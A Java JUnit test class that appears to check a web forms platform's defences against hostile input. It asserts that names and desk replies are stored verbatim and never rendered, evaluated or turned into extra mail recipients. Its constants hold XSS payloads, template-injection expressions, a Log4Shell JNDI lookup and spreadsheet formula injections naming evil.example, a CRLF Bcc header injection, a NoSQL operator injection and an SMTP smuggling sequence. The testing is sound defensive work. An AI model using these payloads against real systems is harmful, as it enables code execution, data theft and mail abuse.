package io.nachweis.faults;

import static org.assertj.core.api.Assertions.assertThat;

import io.nachweis.people.DeskClient;
import io.nachweis.people.Person;
import io.nachweis.people.Planted;
import io.nachweis.platform.Await;
import io.nachweis.platform.Depth;
import io.nachweis.platform.PlatformUnderTest;
import io.nachweis.platform.StoryHttpClient;
import io.nachweis.platform.StoryHttpClient.Answer;
import io.nachweis.platform.StoryTest;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Who is called like a program stays a name: it is on record as it was typed, and nowhere does it run, break out of its
 * place or reach a mail.
 */
@StoryTest
class WithstandingHostileWordsStory {

    /** What an expression below would be, were it evaluated. */
    private static final String EVALUATED = Integer.toString(7919 * 7907);

    private static final List<String> NAMES = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' autofocus onfocus='alert(1)",
            "[[${7919*7907}]] __${7919*7907}__::.x",
            "${7919*7907} #{7919*7907} *{7919*7907} @{/x}",
            "${jndi:ldap://evil.example/x}",
            "{link} {code} {legal} {reason} {0} '{1}",
            "$1 \\1 ${link} $",
            "=HYPERLINK(\"//evil.example\",\"x\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\u0646\u06cc\u200c\u0645abc",
            "\u00e9" + "\u0301".repeat(45),
            "Bcc: victim@example.org",
            "\"},{\"$ne\":\"",
            "https://evil.example/win now");

    /** Half a character, and what stands for one that was broken before. */
    private static final List<String> NO_NAMES = List.of("a\ud800b", "a\ufffdb");

    /** What looks like another text than it is, with that text: controls, directions, line ends. */
    private static final Map<String, String> UNSEEN = Map.of(
            "a\0b", "ab",
            "a\u001b[31mb", "a[31mb",
            "abc\u202egpj.exe", "abcgpj.exe",
            "\u200f\u2067abc\u2069\u200d.", "abc.",
            "a\u0085b\u2028c\u2029d", "a b c d",
            "a\r\nBcc: victim@example.org", "a Bcc: victim@example.org");

    /** What ends a mail for SMTP, and what would follow. */
    private static final String SMUGGLED = """
            One.
            .
            MAIL FROM:<evil@example.org>
            RCPT TO:<VICTIM>
            DATA
            Subject: Win

            .. And so on.
            From here on.
            .
            QUIT""";

    private final PlatformUnderTest platform;
    private final DeskClient desk;

    WithstandingHostileWordsStory(PlatformUnderTest platform) {
        this.platform = platform;
        this.desk = DeskClient.of(platform);
    }

    @Test
    void what_is_no_name_is_refused_by_field() {
        for (String form : Planted.forms()) {
            JsonNode fields = definition(form).path("fields");
            for (JsonNode field : fields) {
                String id = field.path("id").asString();
                if (!id.equals("email") && !field.has("choices")) {
                    String tooLong = "x".repeat(field.path("maxLength").asInt() + 1);
                    Stream.of(NO_NAMES.stream(), Stream.of(tooLong))
                            .flatMap(words -> words)
                            .forEach(word -> assertRefused(form, fields, id, word));
                }
            }
        }
    }

    private void assertRefused(String form, JsonNode fields, String field, String word) {
        Map<String, String> filledIn = new HashMap<>();
        fields.forEach(each -> filledIn.put(
                each.path("id").asString(), each.at("/choices/0/value").asString("a")));
        filledIn.put("email", "refused@example.org");
        filledIn.put(field, word);
        Answer answer = send(form, filledIn);
        assertThat(answer.problem()).as(form + "." + field + ": " + answer).isEqualTo("invalid-field");
        assertThat(answer.json().at("/errors/0/field").asString("")).isEqualTo(field);
    }

    @Test
    void what_nobody_sees_is_neither_refused_nor_on_record() {
        Person person = Person.named("unseen", platform);
        List<String> typed = List.copyOf(UNSEEN.keySet());
        for (int i = 0; i + 1 < typed.size(); i += 2) {
            Map<String, String> filledIn =
                    Map.of("email", person.email(), "name", typed.get(i), "company", typed.get(i + 1), "message", "a");
            assertThat(send("enquiry", filledIn).status()).isEqualTo(202);
        }
        Await.until(
                "all of it is on record as it is seen",
                () -> desk.get("/desk/enquiries?limit=200")
                        .json()
                        .path("enquiries")
                        .valueStream()
                        .filter(each -> each.path("email").asString("").equals(person.email()))
                        .flatMap(each -> Stream.of(
                                each.path("name").asString(),
                                each.path("company").asString()))
                        .collect(Collectors.toSet()),
                seen -> seen.equals(Set.copyOf(UNSEEN.values())));
    }

    @Test
    void a_hostile_name_is_on_record_as_it_was_typed_and_does_nothing_anywhere() {
        for (int turn = 0; turn < NAMES.size(); turn += Depth.of(9, 1)) {
            Person person = Person.named("hostile", platform);
            Set<String> typed = new TreeSet<>();
            typed.addAll(fillIn("newsletter", person, turn));
            typed.addAll(fillIn("enquiry", person, turn + 2));
            // An address gets a mail that anybody can cause once in a quarter of an hour.
            platform.clock().forward("PT16M");
            typed.addAll(fillIn("download", person, turn + 7));
            person.confirmsFor(desk);
            person.linkIn("/unsubscribe?token=");
            person.linkIn("/documents/");

            String page = person.asksFor("access");
            person.proves(page);
            String access = person.fetches(page).body();

            assertThat(StoryHttpClient.JSON.readTree(access).findValues("values").stream()
                            .flatMap(JsonNode::valueStream)
                            .map(value -> value.asString("")))
                    .containsAll(typed);
            assertThat(access).doesNotContain(EVALUATED);
            assertMailsAndPagesSayNothingOf(typed, person);
            assertDeskShowsOnlyText(person);
        }
    }

    /** Another name in every field, and over all turns every name in each. */
    private Set<String> fillIn(String form, Person person, int turn) {
        Map<String, String> filledIn = new HashMap<>();
        int next = turn;
        for (JsonNode field : definition(form).path("fields")) {
            String id = field.path("id").asString();
            if (!field.has("choices")) {
                filledIn.put(id, id.equals("email") ? person.email() : NAMES.get(next++ % NAMES.size()));
            }
        }
        Answer answer = send(form, filledIn);
        assertThat(answer.status())
                .as(form + " with " + filledIn + ": " + answer)
                .isEqualTo(202);
        filledIn.remove("email");
        return Set.copyOf(filledIn.values());
    }

    private void assertMailsAndPagesSayNothingOf(Set<String> typed, Person person) {
        for (JsonNode mail : person.mails()) {
            assertThat(mail.path("to").valueStream().map(JsonNode::asString)).containsExactly(person.email());
            assertThat(mail.path("text").asString() + mail.path("subject") + mail.path("headers"))
                    .doesNotContain(typed)
                    .doesNotContain("evil.example", "victim@", EVALUATED);
            mail.path("links")
                    .valueStream()
                    .map(JsonNode::asString)
                    .filter(link -> link.startsWith(platform.addresses().gateway()))
                    .forEach(link -> assertThat(StoryHttpClient.get(link).body())
                            .as(link)
                            .doesNotContain(typed)
                            .doesNotContain(EVALUATED));
        }
    }

    private void assertDeskShowsOnlyText(Person person) {
        String page = StoryHttpClient.postForm(platform.addresses().site() + "/desk", Map.of("email", person.email()))
                .body();
        assertThat(page)
                .contains("Signed up")
                .doesNotContain("<script>alert", "\"><img src=x", "' autofocus", "<img src=x", EVALUATED);
    }

    @Test
    void what_the_desk_writes_stands_in_the_mail_as_it_is() {
        Person person = Person.named("answered", platform);
        Person victim = Person.named("victim", platform);
        String enquiry = asks(person);
        List<String> texts = new ArrayList<>(NAMES);
        texts.add(SMUGGLED.replace("VICTIM", victim.email()));
        texts.add(String.join("\n", NAMES));
        Set<String> headers = null;
        for (int i = 0; i < texts.size(); i++) {
            String text = texts.get(i);
            assertThat(desk.post("/desk/enquiries/" + enquiry + "/answers", Map.of("text", text))
                            .status())
                    .as(text)
                    .isEqualTo(201);
            JsonNode mail = person.mail(2 + i);
            assertThat(lines(mail)).contains("\n" + text + "\n");
            assertThat(mail.path("to").valueStream().map(JsonNode::asString)).containsExactly(person.email());
            Set<String> names = Set.copyOf(mail.path("headers").propertyNames());
            headers = headers == null ? names : headers;
            assertThat(names).isEqualTo(headers);
        }
        String reasons = String.join("\n", texts);
        refuses(person, reasons);
        assertThat(lines(person.mailSaying("We cannot comply"))).contains("\n" + reasons + "\n");
        assertThat(victim.mails()).isEmpty();
    }

    @Test
    void what_nobody_can_read_the_desk_cannot_write() {
        Person person = Person.named("unanswered", platform);
        String enquiry = asks(person);
        String request = intake(person);
        for (String word : NO_NAMES) {
            Answer answer = deskSends("/desk/enquiries/" + enquiry + "/answers", Map.of("text", word));
            assertThat(answer.problem()).as(answer.toString()).isEqualTo("invalid-field");
            Answer decision = deskSends(
                    "/desk/rights-requests/" + request + "/decisions", Map.of("decision", "refuse", "reason", word));
            assertThat(decision.problem()).as(decision.toString()).isEqualTo("invalid-field");
        }
        assertThat(person.mails()).hasSize(2);
    }

    private String asks(Person person) {
        assertThat(send("enquiry", Map.of("email", person.email(), "name", "a", "message", "a"))
                        .status())
                .isEqualTo(202);
        person.mail(1);
        return Await.until(
                        "the enquiry is in the queue",
                        () -> desk.get("/desk/enquiries?limit=200")
                                .json()
                                .path("enquiries")
                                .valueStream()
                                .filter(each -> each.path("email").asString("").equals(person.email()))
                                .toList(),
                        found -> !found.isEmpty())
                .getFirst()
                .path("enquiry")
                .asString();
    }

    private void refuses(Person person, String reason) {
        assertThat(deskSends(
                                "/desk/rights-requests/" + intake(person) + "/decisions",
                                Map.of("decision", "refuse", "reason", reason))
                        .status())
                .isEqualTo(200);
    }

    private String intake(Person person) {
        String now = platform.clock().now().toString();
        List<String> request = new ArrayList<>();
        person.linkAfter(
                "/idm/rights/",
                () -> request.add(desk.post(
                                "/desk/rights-requests",
                                Map.of(
                                        "email",
                                        person.email(),
                                        "kind",
                                        "access",
                                        "channel",
                                        "phone",
                                        "receivedAt",
                                        now,
                                        "locale",
                                        "en"))
                        .json()
                        .path("request")
                        .asString("")));
        return request.getFirst();
    }

    private Answer deskSends(String path, Map<String, String> body) {
        return StoryHttpClient.post(
                platform.addresses().gateway() + "/api/v1/idm" + path,
                "application/json",
                json(body),
                "Authorization",
                "Bearer " + desk.token());
    }

    private Answer send(String form, Map<String, String> filledIn) {
        JsonNode definition = definition(form);
        ObjectNode body = StoryHttpClient.JSON.createObjectNode();
        body.put("locale", "en").put("document", "sample");
        filledIn.forEach(body::put);
        if (definition.path("kind").asString().equals("newsletter")) {
            body.put("consents", definition.at("/wordings/0/id").asString());
        }
        String key = UUID.randomUUID().toString();
        // On a busy machine an answer may come too late for the gateway; asked again under the key it is the same
        // request.
        return Await.until(
                form + " is answered",
                () -> StoryHttpClient.post(
                        platform.addresses().gateway()
                                + definition.path("action").asString(),
                        "application/json",
                        json(body),
                        "Idempotency-Key",
                        key),
                answer -> answer.status() != 503);
    }

    /** Half a character cannot be sent but by its number. */
    private static String json(Object body) {
        return StoryHttpClient.JSON.writeValueAsString(body).replace("\ud800", "\\ud800");
    }

    private JsonNode definition(String form) {
        return StoryHttpClient.get(platform.addresses().gateway() + "/api/v1/idm/forms/" + form + "?locale=en")
                .json();
    }

    private static String lines(JsonNode mail) {
        return "\n" + mail.path("text").asString("").replace("\r\n", "\n");
    }
}
